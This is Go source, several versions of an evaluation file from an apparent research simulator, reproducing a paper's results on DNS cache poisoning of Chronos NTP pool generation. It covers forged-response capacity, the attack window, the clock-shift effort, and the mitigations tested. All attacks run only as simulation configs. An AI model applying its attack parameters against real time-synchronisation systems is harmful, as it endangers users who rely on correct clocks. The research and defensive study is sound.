	for q := 1; q <= queries; q++ {
		benign, err := agg.Describe(runner.QueryMetric(q, "benign"))
		if err != nil {
			return nil, err
		}
		malicious, err := agg.Describe(runner.QueryMetric(q, "malicious"))
		if err != nil {
			return nil, err
		}
		fraction, err := agg.Describe(runner.QueryMetric(q, "fraction"))
		if err != nil {
			return nil, err
		}
		p.Queries = append(p.Queries, QueryAggregate{
			Query: q, Benign: benign, Malicious: malicious, Fraction: fraction,
		})
	}
	p.Final.Benign, _ = agg.Describe(runner.MetricPoolBenign)
	p.Final.Malicious, _ = agg.Describe(runner.MetricPoolMalicious)
	p.Final.Fraction, _ = agg.Describe(runner.MetricAttackerFraction)
	p.Planted, _ = agg.Describe(runner.MetricPoisonPlanted)
	return &Result{Meta: newMeta("E1", seed, trials), Payload: p}, nil
}

// AttackWindow reproduces the §IV claim that poisoning any of the first 12
// queries leaves the attacker with ≥ 2/3 of the pool: an analytical sweep
// over the poisoned query index plus simulated spot checks.
func AttackWindow(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	spot := []int{1, 6, 12, 13, 18, 24}
	var gridTrials []runner.Trial
	for _, q := range spot {
		for k := 0; k < trials; k++ {
			gridTrials = append(gridTrials, runner.Trial{
				Index: len(gridTrials),
				Point: fmt.Sprintf("poison-query=%d", q),
				Config: core.Config{
					Seed: seed + int64(q) + int64(k), Mechanism: core.Defrag, PoisonQuery: q,
				},
			})
		}
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	fractions := make(map[int][]float64)
	for i, tr := range gridTrials {
		q := tr.Config.PoisonQuery
		fractions[q] = append(fractions[q], results[i].AttackerFraction)
	}
	p := &AttackWindowPayload{Window: 24, PerResponse: 4, Injected: 89}
	for _, q := range spot {
		p.Simulated = append(p.Simulated, SimulatedFraction{Query: q, Fraction: describe(fractions[q])})
	}
	return &Result{Meta: newMeta("E2", seed, trials), Payload: p}, nil
}

// MaxAddresses reproduces the §IV claim "up to 89 [addresses] for a single
// non-fragmented DNS response", straight from the wire encoder.
func MaxAddresses() (*Result, error) {
	rows, err := analysis.RecordCapacityTable(core.PoolName)
	if err != nil {
		return nil, err
	}
	p := &CapacityPayload{}
	for _, r := range rows {
		p.Rows = append(p.Rows, CapacityRow{Payload: r.Payload, EDNS: r.EDNS, Records: r.Records})
	}
	return &Result{Meta: newMeta("E3", 0, 0), Payload: p}, nil
}

// ChronosSecurity reproduces the §III claim that "to shift time on a
// Chronos NTP client by 100ms a strong MitM attacker would need 20 years
// of effort", and its collapse once DNS poisoning hands the attacker ≥ 2/3
// of the pool. Closed form, with a Monte-Carlo cross-check where feasible.
func ChronosSecurity() (*Result, error) {
	const (
		m        = 15
		d        = 5
		target   = 100 * time.Millisecond
		step     = 25 * time.Millisecond
		interval = time.Hour
	)
	cases := []struct{ pool, mal int }{
		{500, 50},  // 10% MitM
		{500, 125}, // 25%
		{500, 166}, // the 1/3 boundary the Chronos proof assumes
		{133, 67},  // half
		{133, 89},  // the paper's poisoned pool (≥ 2/3)
	}
	p := &SecurityBoundPayload{}
	for _, c := range cases {
		st, err := analysis.YearsToShift(c.pool, c.mal, m, d, target, step, interval)
		if err != nil {
			return nil, err
		}
		p.Rows = append(p.Rows, SecurityBoundRow{
			Pool: c.pool, Malicious: c.mal,
			WinProb: Float(st.WinProb), ConsecutiveWins: st.ConsecutiveWins,
			Expected: st.Expected, Years: Float(st.Years),
		})
	}
	// Monte-Carlo cross-check in the fast (poisoned) regime.
	rng := rand.New(rand.NewSource(11))
	mc := analysis.SimulateRoundsToShift(rng, 133, 89, m, d, 4, 300)
	cf, err := analysis.YearsToShift(133, 89, m, d, target, step, interval)
	if err != nil {
		return nil, err
	}
	p.PoisonedExpectedRounds = Float(cf.ExpectedRounds)
	p.MonteCarloRounds = Float(mc)
	return &Result{Meta: newMeta("E4", 0, 0), Payload: p}, nil
}

// TimeShift reproduces the end-to-end contrast: the clock error reached on
// a Chronos client with an honest pool, a Chronos client with the poisoned
// pool, and a classic ≤4-server NTP client bootstrapped from the poisoned
// resolver.
func TimeShift(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	var gridTrials []runner.Trial
	for k := 0; k < trials; k++ {
		gridTrials = append(gridTrials, runner.Trial{
			Index:  len(gridTrials),
			Point:  "honest",
			Config: core.Config{Seed: seed + 2*int64(k), SyncDuration: 2 * time.Hour},
		})
	}
	for k := 0; k < trials; k++ {
		gridTrials = append(gridTrials, runner.Trial{
			Index: len(gridTrials),
			Point: "poisoned",
			Config: core.Config{
				Seed: seed + 1 + 2*int64(k), Mechanism: core.Defrag, PoisonQuery: 12,
				SyncDuration: 2 * time.Hour, RunPlainNTP: true,
			},
		})
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	groups := runner.ByPoint(gridTrials, results)
	collect := func(point string, f func(*core.Result) float64) []float64 {
		var xs []float64
		for _, r := range groups[point] {
			xs = append(xs, f(r))
		}
		return xs
	}
	p := &TimeShiftPayload{
		HonestFinal:   describe(collect("honest", func(r *core.Result) float64 { return float64(r.ChronosOffset) })),
		HonestMax:     describe(collect("honest", func(r *core.Result) float64 { return float64(r.ChronosMaxOffset) })),
		PoisonedFinal: describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosOffset) })),
		PoisonedMax:   describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosMaxOffset) })),
		PlainFinal:    describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.PlainOffset) })),
		Updates:       describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Updates) })),
		Resamples:     describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Resamples) })),
		Panics:        describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Panics) })),
	}
	return &Result{Meta: newMeta("E6", seed, trials), Payload: p}, nil
}

// MitigationToggles are the §V defence settings as runner grid toggles:
// none, the paper's resolver- and client-side caps, multi-resolver
// consensus, and the persistent-hijack residual case that defeats them all.
func MitigationToggles() []runner.Toggle {
	return []runner.Toggle{
		runner.NoToggle(),
		{Name: "resolver-caps", Apply: func(c *core.Config) {
			c.ResolverPolicy = mitigation.PaperResolverPolicy()
		}},
		{Name: "client-caps", Apply: func(c *core.Config) {
			c.ClientPolicy = mitigation.PaperClientPolicy()
		}},
		{Name: "consensus-3", Apply: func(c *core.Config) {
			c.Consensus = 3
		}},
		{Name: "all-vs-24h-hijack", Apply: func(c *core.Config) {
			c.Mechanism = core.BGPHijackPersistent
			c.PoisonQuery = 1
			c.MaliciousServers = 120
			c.ResolverPolicy = mitigation.PaperResolverPolicy()
			c.ClientPolicy = mitigation.PaperClientPolicy()
		}},
	}
}

// Mitigations reproduces §V: the 4-address + TTL caps stop the single-shot
// poisoning, multi-resolver consensus stops a single poisoned resolver,
// but a persistent (24 h) DNS hijack still defeats everything.
func Mitigations(seed int64, trials, parallel int) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	names := []string{
		"none (vulnerable)",
		"resolver: ≤4 addrs, TTL ≤24h",
		"client: ≤4 addrs, TTL ≤24h",
		"consensus (3 resolvers)",
		"all of the above",
	}
	toggles := MitigationToggles()
	var gridTrials []runner.Trial
	for i, tog := range toggles {
		for k := 0; k < trials; k++ {
			cfg := core.Config{
				Seed:      seed + int64(i) + int64(len(toggles))*int64(k),
				Mechanism: core.Defrag, PoisonQuery: 12,
			}
			tog.Apply(&cfg)
			gridTrials = append(gridTrials, runner.Trial{Index: len(gridTrials), Point: names[i], Config: cfg})
		}
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	groups := runner.ByPoint(gridTrials, results)
	p := &MitigationsPayload{}
	for _, name := range names {
		rs := groups[name]
		var benign, malicious, fraction []float64
		for _, r := range rs {
			benign = append(benign, float64(r.PoolBenign))
			malicious = append(malicious, float64(r.PoolMalicious))
			fraction = append(fraction, r.AttackerFraction)
		}
		p.Rows = append(p.Rows, MitigationRow{
			Defence: name, Mechanism: rs[0].Mechanism.String(),
			Benign: describe(benign), Malicious: describe(malicious), Fraction: describe(fraction),
		})
	}
	return &Result{Meta: newMeta("E7", seed, trials), Payload: p}, nil
}

// All runs every experiment (E5, the measurement study, lives in
// fragstudy.go; E9, the fleet study, in fleetstudy.go — clients and
// resolvers size its population, 0 = the 1000/10 defaults; E10, the
// long-horizon shift study, in shiftstudy.go at its default target,
// horizon and full strategy sweep; E11, the authentication arms race,
// in authstudy.go at its default grid).
func All(seed int64, trials, parallel, clients, resolvers int) ([]*Result, error) {
	var out []*Result
	steps := []func() (*Result, error){
		func() (*Result, error) { return Figure1(seed, trials, parallel) },
		func() (*Result, error) { return AttackWindow(seed, trials, parallel) },
		MaxAddresses,
		ChronosSecurity,
		func() (*Result, error) { return FragmentationStudy(seed, trials, parallel) },
		func() (*Result, error) { return TimeShift(seed, trials, parallel) },
		func() (*Result, error) { return Mitigations(seed, trials, parallel) },
		func() (*Result, error) { return Ablations(seed, trials, parallel) },
		func() (*Result, error) { return FleetStudy(seed, trials, parallel, clients, resolvers) },
		func() (*Result, error) { return ShiftStudy(seed, trials, parallel, 0, 0, "all") },
		func() (*Result, error) { return AuthStudy(seed, trials, parallel, 0, 0, "all", 0) },
	}
	for _, step := range steps {
		res, err := step()
		if err != nil {
			return nil, err
		}
		out = append(out, res)
	}
	return out, nil
}
