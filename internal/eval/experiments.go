package eval

import (
	"context"
	"fmt"
	"math"
	"math/rand"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/core"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/runner"
)

// The scenario-backed experiments (E1, E2, E5, E6, E7, E8) are Monte-Carlo
// runs: `trials` independently seeded replicas of every scenario are fanned
// across `parallel` workers by internal/runner, and each reported number is
// the mean ± 95% CI across the replicas. trials = 1 reproduces the original
// single-seed tables verbatim; the aggregates are bit-identical at any
// parallelism.

// Figure1 reproduces the paper's Figure 1: the Chronos pool composition
// across the 24 hourly pool-generation queries with the defragmentation
// poisoning landing at query 12. Paper: 44 benign + 89 malicious ⇒ the
// attacker holds a 2/3 majority.
func Figure1(seed int64, trials, parallel int) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	grid := runner.Grid{
		Base:  core.Config{Mechanism: core.Defrag, PoisonQuery: 12},
		Seeds: runner.Seeds(seed, trials),
	}
	agg, results, err := runner.MonteCarlo(context.Background(), grid.Trials(), parallel)
	if err != nil {
		return nil, err
	}
	t := &Table{
		ID:      "E1",
		Title:   "Figure 1 — DNS poisoning attack on Chronos pool generation (poison at query 12)",
		Columns: []string{"query", "benign", "malicious", "attacker-fraction"},
	}
	queries := len(results[0].PerQuery)
	for q := 1; q <= queries; q++ {
		benign, err := agg.Describe(runner.QueryMetric(q, "benign"))
		if err != nil {
			return nil, err
		}
		malicious, err := agg.Describe(runner.QueryMetric(q, "malicious"))
		if err != nil {
			return nil, err
		}
		fraction, err := agg.Describe(runner.QueryMetric(q, "fraction"))
		if err != nil {
			return nil, err
		}
		t.AddRow(q, fmtCount(benign), fmtCount(malicious), fmtFrac(fraction))
	}
	benign, _ := agg.Describe(runner.MetricPoolBenign)
	malicious, _ := agg.Describe(runner.MetricPoolMalicious)
	fraction, _ := agg.Describe(runner.MetricAttackerFraction)
	planted, _ := agg.Describe(runner.MetricPoisonPlanted)
	ideal := analysis.ComposePool(12, 24, 4, 89)
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: up to 4·11 = 44 benign + 89 malicious (fraction %.3f ≥ 2/3)", ideal.Fraction),
		fmt.Sprintf("measured: %s benign + %s malicious (fraction %s); benign < 44 only through pool-rotation repeats",
			fmtCount(benign), fmtCount(malicious), fmtFrac(fraction)),
		fmt.Sprintf("poisoning mechanism: %s, planted = %d/%d",
			results[0].Mechanism, int(planted.Mean*float64(planted.N)+0.5), planted.N),
	)
	mcNote(t, trials)
	return t, nil
}

// AttackWindow reproduces the §IV claim that poisoning any of the first 12
// queries leaves the attacker with ≥ 2/3 of the pool: an analytical sweep
// over the poisoned query index plus simulated spot checks.
func AttackWindow(seed int64, trials, parallel int) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	t := &Table{
		ID:      "E2",
		Title:   "Attack window — attacker pool fraction vs poisoned query index",
		Columns: []string{"poison-query", "ideal-benign", "ideal-fraction", ">=2/3", "simulated-fraction"},
	}
	spot := []int{1, 6, 12, 13, 18, 24}
	var gridTrials []runner.Trial
	for _, q := range spot {
		for k := 0; k < trials; k++ {
			gridTrials = append(gridTrials, runner.Trial{
				Index: len(gridTrials),
				Point: fmt.Sprintf("poison-query=%d", q),
				Config: core.Config{
					Seed: seed + int64(q) + int64(k), Mechanism: core.Defrag, PoisonQuery: q,
				},
			})
		}
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	fractions := make(map[int][]float64)
	for i, tr := range gridTrials {
		q := tr.Config.PoisonQuery
		fractions[q] = append(fractions[q], results[i].AttackerFraction)
	}
	for q := 1; q <= 24; q++ {
		c := analysis.ComposePool(q, 24, 4, 89)
		sim := "-"
		if xs, ok := fractions[q]; ok {
			sim = fmtFrac(describe(xs))
		}
		t.AddRow(q, c.Benign, c.Fraction, c.Fraction >= 2.0/3.0, sim)
	}
	adv := analysis.CompareOpportunities(0.1, analysis.MaxPoisonQuery(24, 4, 89, 2.0/3.0))
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: success 'until or during the 12th DNS request' keeps ≥ 2/3; computed crossover = query %d",
			analysis.MaxPoisonQuery(24, 4, 89, 2.0/3.0)),
		fmt.Sprintf("'even easier than plain NTP': at 10%% per-attempt poisoning success, classic client P=%.2f vs Chronos P=%.2f (%.1f× the opportunities)",
			adv.Classic, adv.Chronos, adv.Advantage),
	)
	mcNote(t, trials)
	return t, nil
}

// MaxAddresses reproduces the §IV claim "up to 89 [addresses] for a single
// non-fragmented DNS response", straight from the wire encoder.
func MaxAddresses() (*Table, error) {
	rows, err := analysis.RecordCapacityTable(core.PoolName)
	if err != nil {
		return nil, err
	}
	t := &Table{
		ID:      "E3",
		Title:   "Forged-response capacity — A records per single non-fragmented response",
		Columns: []string{"udp-payload", "edns0", "max-A-records"},
	}
	for _, r := range rows {
		t.AddRow(r.Payload, r.EDNS, r.Records)
	}
	t.Notes = append(t.Notes,
		"paper: 'up to 89 for a single non-fragmented DNS response' (1500-byte Ethernet MTU, EDNS0)",
		"benign pool.ntp.org responses carry 4",
	)
	return t, nil
}

// ChronosSecurity reproduces the §III claim that "to shift time on a
// Chronos NTP client by 100ms a strong MitM attacker would need 20 years
// of effort", and its collapse once DNS poisoning hands the attacker ≥ 2/3
// of the pool. Closed form, with a Monte-Carlo cross-check where feasible.
func ChronosSecurity() (*Table, error) {
	t := &Table{
		ID:      "E4",
		Title:   "Chronos security bound — expected effort to shift a client by 100 ms",
		Columns: []string{"pool", "malicious", "fraction", "round-win-prob", "consecutive-wins", "expected-effort", "years"},
	}
	const (
		m        = 15
		d        = 5
		target   = 100 * time.Millisecond
		step     = 25 * time.Millisecond
		interval = time.Hour
	)
	cases := []struct{ pool, mal int }{
		{500, 50},  // 10% MitM
		{500, 125}, // 25%
		{500, 166}, // the 1/3 boundary the Chronos proof assumes
		{133, 67},  // half
		{133, 89},  // the paper's poisoned pool (≥ 2/3)
	}
	for _, c := range cases {
		st, err := analysis.YearsToShift(c.pool, c.mal, m, d, target, step, interval)
		if err != nil {
			return nil, err
		}
		// time.Duration saturates near 292 years; switch to years there.
		effort := st.Expected.String()
		if math.IsInf(st.Years, 1) {
			effort = "never"
		} else if st.Years > 250 {
			effort = fmt.Sprintf("%.3g years", st.Years)
		}
		years := fmt.Sprintf("%.3g", st.Years)
		t.AddRow(c.pool, c.mal, float64(c.mal)/float64(c.pool), fmt.Sprintf("%.3g", st.WinProb), st.ConsecutiveWins, effort, years)
	}
	// Monte-Carlo cross-check in the fast (poisoned) regime.
	rng := rand.New(rand.NewSource(11))
	mc := analysis.SimulateRoundsToShift(rng, 133, 89, m, d, 4, 300)
	cf, err := analysis.YearsToShift(133, 89, m, d, target, step, interval)
	if err != nil {
		return nil, err
	}
	t.Notes = append(t.Notes,
		"paper (§III, citing Chronos NDSS'18): 'to shift time ... by 100ms a strong MitM attacker would need 20 years of effort'",
		fmt.Sprintf("measured at the 1/3 boundary: see row 3 — years ≥ 20 reproduces the claim's order of magnitude"),
		fmt.Sprintf("poisoned pool (89/133): %.1f expected rounds ≈ %.1f hours — the guarantee collapses", cf.ExpectedRounds, cf.ExpectedRounds),
		fmt.Sprintf("monte-carlo cross-check (poisoned): %.1f rounds vs closed form %.1f", mc, cf.ExpectedRounds),
	)
	return t, nil
}

// TimeShift reproduces the end-to-end contrast: the clock error reached on
// a Chronos client with an honest pool, a Chronos client with the poisoned
// pool, and a classic ≤4-server NTP client bootstrapped from the poisoned
// resolver.
func TimeShift(seed int64, trials, parallel int) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	t := &Table{
		ID:      "E6",
		Title:   "End-to-end time shift after a 2 h attack phase (adaptive below-threshold strategy)",
		Columns: []string{"client", "pool", "final-offset", "max-offset"},
	}
	var gridTrials []runner.Trial
	for k := 0; k < trials; k++ {
		gridTrials = append(gridTrials, runner.Trial{
			Index:  len(gridTrials),
			Point:  "honest",
			Config: core.Config{Seed: seed + 2*int64(k), SyncDuration: 2 * time.Hour},
		})
	}
	for k := 0; k < trials; k++ {
		gridTrials = append(gridTrials, runner.Trial{
			Index: len(gridTrials),
			Point: "poisoned",
			Config: core.Config{
				Seed: seed + 1 + 2*int64(k), Mechanism: core.Defrag, PoisonQuery: 12,
				SyncDuration: 2 * time.Hour, RunPlainNTP: true,
			},
		})
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	groups := runner.ByPoint(gridTrials, results)
	collect := func(point string, f func(*core.Result) float64) []float64 {
		var xs []float64
		for _, r := range groups[point] {
			xs = append(xs, f(r))
		}
		return xs
	}
	hFinal := describe(collect("honest", func(r *core.Result) float64 { return float64(r.ChronosOffset) }))
	hMax := describe(collect("honest", func(r *core.Result) float64 { return float64(r.ChronosMaxOffset) }))
	t.AddRow("chronos", "honest (96 benign)", fmtDur(hFinal), fmtDur(hMax))

	pFinal := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosOffset) }))
	pMax := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosMaxOffset) }))
	t.AddRow("chronos", "poisoned (44 benign + 89 malicious)", fmtDur(pFinal), fmtDur(pMax))
	plain := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.PlainOffset) }))
	t.AddRow("classic ntp (4 servers)", "poisoned (same resolver)", fmtDur(plain), "-")

	updates := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Updates) }))
	resamples := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Resamples) }))
	panics := describe(collect("poisoned", func(r *core.Result) float64 { return float64(r.ChronosStats.Panics) }))
	t.Notes = append(t.Notes,
		"paper: with ≥ 2/3 of the pool the attacker defeats both the normal path and panic mode; plain NTP falls with a single poisoning",
		fmt.Sprintf("chronos stats (poisoned): updates=%s resamples=%s panics=%s",
			fmtCount(updates), fmtCount(resamples), fmtCount(panics)),
	)
	mcNote(t, trials)
	return t, nil
}

// MitigationToggles are the §V defence settings as runner grid toggles:
// none, the paper's resolver- and client-side caps, multi-resolver
// consensus, and the persistent-hijack residual case that defeats them all.
func MitigationToggles() []runner.Toggle {
	return []runner.Toggle{
		runner.NoToggle(),
		{Name: "resolver-caps", Apply: func(c *core.Config) {
			c.ResolverPolicy = mitigation.PaperResolverPolicy()
		}},
		{Name: "client-caps", Apply: func(c *core.Config) {
			c.ClientPolicy = mitigation.PaperClientPolicy()
		}},
		{Name: "consensus-3", Apply: func(c *core.Config) {
			c.Consensus = 3
		}},
		{Name: "all-vs-24h-hijack", Apply: func(c *core.Config) {
			c.Mechanism = core.BGPHijackPersistent
			c.PoisonQuery = 1
			c.MaliciousServers = 120
			c.ResolverPolicy = mitigation.PaperResolverPolicy()
			c.ClientPolicy = mitigation.PaperClientPolicy()
		}},
	}
}

// Mitigations reproduces §V: the 4-address + TTL caps stop the single-shot
// poisoning, multi-resolver consensus stops a single poisoned resolver,
// but a persistent (24 h) DNS hijack still defeats everything.
func Mitigations(seed int64, trials, parallel int) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	t := &Table{
		ID:      "E7",
		Title:   "§V mitigations — pool composition under each defence",
		Columns: []string{"defence", "mechanism", "benign", "malicious", "attacker-fraction"},
	}
	names := []string{
		"none (vulnerable)",
		"resolver: ≤4 addrs, TTL ≤24h",
		"client: ≤4 addrs, TTL ≤24h",
		"consensus (3 resolvers)",
		"all of the above",
	}
	toggles := MitigationToggles()
	var gridTrials []runner.Trial
	for i, tog := range toggles {
		for k := 0; k < trials; k++ {
			cfg := core.Config{
				Seed:      seed + int64(i) + int64(len(toggles))*int64(k),
				Mechanism: core.Defrag, PoisonQuery: 12,
			}
			tog.Apply(&cfg)
			gridTrials = append(gridTrials, runner.Trial{Index: len(gridTrials), Point: names[i], Config: cfg})
		}
	}
	results, err := runner.Run(context.Background(), gridTrials, runner.Options{Parallel: parallel})
	if err != nil {
		return nil, err
	}
	groups := runner.ByPoint(gridTrials, results)
	for _, name := range names {
		rs := groups[name]
		var benign, malicious, fraction []float64
		for _, r := range rs {
			benign = append(benign, float64(r.PoolBenign))
			malicious = append(malicious, float64(r.PoolMalicious))
			fraction = append(fraction, r.AttackerFraction)
		}
		t.AddRow(name, rs[0].Mechanism.String(),
			fmtCount(describe(benign)), fmtCount(describe(malicious)), fmtFrac(describe(fraction)))
	}
	t.Notes = append(t.Notes,
		"paper §V: capping addresses and TTLs 'can be improved to limit the impact' ...",
		"... 'however, even with these mitigations, the dependency on the insecure DNS still remains' — the 24 h hijack row",
	)
	mcNote(t, trials)
	return t, nil
}

// All runs every experiment (E5, the measurement study, lives in
// fragstudy.go; E9, the fleet study, in fleetstudy.go — clients and
// resolvers size its population, 0 = the 1000/10 defaults; E10, the
// long-horizon shift study, in shiftstudy.go at its default target,
// horizon and full strategy sweep).
func All(seed int64, trials, parallel, clients, resolvers int) ([]*Table, error) {
	var out []*Table
	steps := []func() (*Table, error){
		func() (*Table, error) { return Figure1(seed, trials, parallel) },
		func() (*Table, error) { return AttackWindow(seed, trials, parallel) },
		MaxAddresses,
		ChronosSecurity,
		func() (*Table, error) { return FragmentationStudy(seed, trials, parallel) },
		func() (*Table, error) { return TimeShift(seed, trials, parallel) },
		func() (*Table, error) { return Mitigations(seed, trials, parallel) },
		func() (*Table, error) { return Ablations(seed, trials, parallel) },
		func() (*Table, error) { return FleetStudy(seed, trials, parallel, clients, resolvers) },
		func() (*Table, error) { return ShiftStudy(seed, trials, parallel, 0, 0, "all") },
	}
	for _, step := range steps {
		tbl, err := step()
		if err != nil {
			return nil, err
		}
		out = append(out, tbl)
	}
	return out, nil
}
