package eval

import (
	"fmt"
	"math"
	"math/rand"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/core"
	"chronosntp/internal/mitigation"
)

// Figure1 reproduces the paper's Figure 1: the Chronos pool composition
// across the 24 hourly pool-generation queries with the defragmentation
// poisoning landing at query 12. Paper: 44 benign + 89 malicious ⇒ the
// attacker holds a 2/3 majority.
func Figure1(seed int64) (*Table, error) {
	s, err := core.NewScenario(core.Config{
		Seed: seed, Mechanism: core.Defrag, PoisonQuery: 12,
	})
	if err != nil {
		return nil, err
	}
	res, err := s.Run()
	if err != nil {
		return nil, err
	}
	t := &Table{
		ID:      "E1",
		Title:   "Figure 1 — DNS poisoning attack on Chronos pool generation (poison at query 12)",
		Columns: []string{"query", "benign", "malicious", "attacker-fraction"},
	}
	for _, q := range res.PerQuery {
		t.AddRow(q.Query, q.Benign, q.Malicious, q.Fraction())
	}
	ideal := analysis.ComposePool(12, 24, 4, 89)
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: up to 4·11 = 44 benign + 89 malicious (fraction %.3f ≥ 2/3)", ideal.Fraction),
		fmt.Sprintf("measured: %d benign + %d malicious (fraction %.3f); benign < 44 only through pool-rotation repeats",
			res.PoolBenign, res.PoolMalicious, res.AttackerFraction),
		fmt.Sprintf("poisoning mechanism: %s, planted = %v", res.Mechanism, res.PoisonPlanted),
	)
	return t, nil
}

// AttackWindow reproduces the §IV claim that poisoning any of the first 12
// queries leaves the attacker with ≥ 2/3 of the pool: an analytical sweep
// over the poisoned query index plus simulated spot checks.
func AttackWindow(seed int64) (*Table, error) {
	t := &Table{
		ID:      "E2",
		Title:   "Attack window — attacker pool fraction vs poisoned query index",
		Columns: []string{"poison-query", "ideal-benign", "ideal-fraction", ">=2/3", "simulated-fraction"},
	}
	simulated := map[int]float64{}
	for _, q := range []int{1, 6, 12, 13, 18, 24} {
		s, err := core.NewScenario(core.Config{Seed: seed + int64(q), Mechanism: core.Defrag, PoisonQuery: q})
		if err != nil {
			return nil, err
		}
		res, err := s.Run()
		if err != nil {
			return nil, err
		}
		simulated[q] = res.AttackerFraction
	}
	for q := 1; q <= 24; q++ {
		c := analysis.ComposePool(q, 24, 4, 89)
		sim := "-"
		if f, ok := simulated[q]; ok {
			sim = fmt.Sprintf("%.3f", f)
		}
		t.AddRow(q, c.Benign, c.Fraction, c.Fraction >= 2.0/3.0, sim)
	}
	adv := analysis.CompareOpportunities(0.1, analysis.MaxPoisonQuery(24, 4, 89, 2.0/3.0))
	t.Notes = append(t.Notes,
		fmt.Sprintf("paper: success 'until or during the 12th DNS request' keeps ≥ 2/3; computed crossover = query %d",
			analysis.MaxPoisonQuery(24, 4, 89, 2.0/3.0)),
		fmt.Sprintf("'even easier than plain NTP': at 10%% per-attempt poisoning success, classic client P=%.2f vs Chronos P=%.2f (%.1f× the opportunities)",
			adv.Classic, adv.Chronos, adv.Advantage),
	)
	return t, nil
}

// MaxAddresses reproduces the §IV claim "up to 89 [addresses] for a single
// non-fragmented DNS response", straight from the wire encoder.
func MaxAddresses() (*Table, error) {
	rows, err := analysis.RecordCapacityTable(core.PoolName)
	if err != nil {
		return nil, err
	}
	t := &Table{
		ID:      "E3",
		Title:   "Forged-response capacity — A records per single non-fragmented response",
		Columns: []string{"udp-payload", "edns0", "max-A-records"},
	}
	for _, r := range rows {
		t.AddRow(r.Payload, r.EDNS, r.Records)
	}
	t.Notes = append(t.Notes,
		"paper: 'up to 89 for a single non-fragmented DNS response' (1500-byte Ethernet MTU, EDNS0)",
		"benign pool.ntp.org responses carry 4",
	)
	return t, nil
}

// ChronosSecurity reproduces the §III claim that "to shift time on a
// Chronos NTP client by 100ms a strong MitM attacker would need 20 years
// of effort", and its collapse once DNS poisoning hands the attacker ≥ 2/3
// of the pool. Closed form, with a Monte-Carlo cross-check where feasible.
func ChronosSecurity() (*Table, error) {
	t := &Table{
		ID:      "E4",
		Title:   "Chronos security bound — expected effort to shift a client by 100 ms",
		Columns: []string{"pool", "malicious", "fraction", "round-win-prob", "consecutive-wins", "expected-effort", "years"},
	}
	const (
		m        = 15
		d        = 5
		target   = 100 * time.Millisecond
		step     = 25 * time.Millisecond
		interval = time.Hour
	)
	cases := []struct{ pool, mal int }{
		{500, 50},  // 10% MitM
		{500, 125}, // 25%
		{500, 166}, // the 1/3 boundary the Chronos proof assumes
		{133, 67},  // half
		{133, 89},  // the paper's poisoned pool (≥ 2/3)
	}
	for _, c := range cases {
		st, err := analysis.YearsToShift(c.pool, c.mal, m, d, target, step, interval)
		if err != nil {
			return nil, err
		}
		// time.Duration saturates near 292 years; switch to years there.
		effort := st.Expected.String()
		if math.IsInf(st.Years, 1) {
			effort = "never"
		} else if st.Years > 250 {
			effort = fmt.Sprintf("%.3g years", st.Years)
		}
		years := fmt.Sprintf("%.3g", st.Years)
		t.AddRow(c.pool, c.mal, float64(c.mal)/float64(c.pool), fmt.Sprintf("%.3g", st.WinProb), st.ConsecutiveWins, effort, years)
	}
	// Monte-Carlo cross-check in the fast (poisoned) regime.
	rng := rand.New(rand.NewSource(11))
	mc := analysis.SimulateRoundsToShift(rng, 133, 89, m, d, 4, 300)
	cf, err := analysis.YearsToShift(133, 89, m, d, target, step, interval)
	if err != nil {
		return nil, err
	}
	t.Notes = append(t.Notes,
		"paper (§III, citing Chronos NDSS'18): 'to shift time ... by 100ms a strong MitM attacker would need 20 years of effort'",
		fmt.Sprintf("measured at the 1/3 boundary: see row 3 — years ≥ 20 reproduces the claim's order of magnitude"),
		fmt.Sprintf("poisoned pool (89/133): %.1f expected rounds ≈ %.1f hours — the guarantee collapses", cf.ExpectedRounds, cf.ExpectedRounds),
		fmt.Sprintf("monte-carlo cross-check (poisoned): %.1f rounds vs closed form %.1f", mc, cf.ExpectedRounds),
	)
	return t, nil
}

// TimeShift reproduces the end-to-end contrast: the clock error reached on
// a Chronos client with an honest pool, a Chronos client with the poisoned
// pool, and a classic ≤4-server NTP client bootstrapped from the poisoned
// resolver.
func TimeShift(seed int64) (*Table, error) {
	t := &Table{
		ID:      "E6",
		Title:   "End-to-end time shift after a 2 h attack phase (adaptive below-threshold strategy)",
		Columns: []string{"client", "pool", "final-offset", "max-offset"},
	}
	honest, err := core.NewScenario(core.Config{Seed: seed, SyncDuration: 2 * time.Hour})
	if err != nil {
		return nil, err
	}
	hres, err := honest.Run()
	if err != nil {
		return nil, err
	}
	t.AddRow("chronos", "honest (96 benign)", hres.ChronosOffset.String(), hres.ChronosMaxOffset.String())

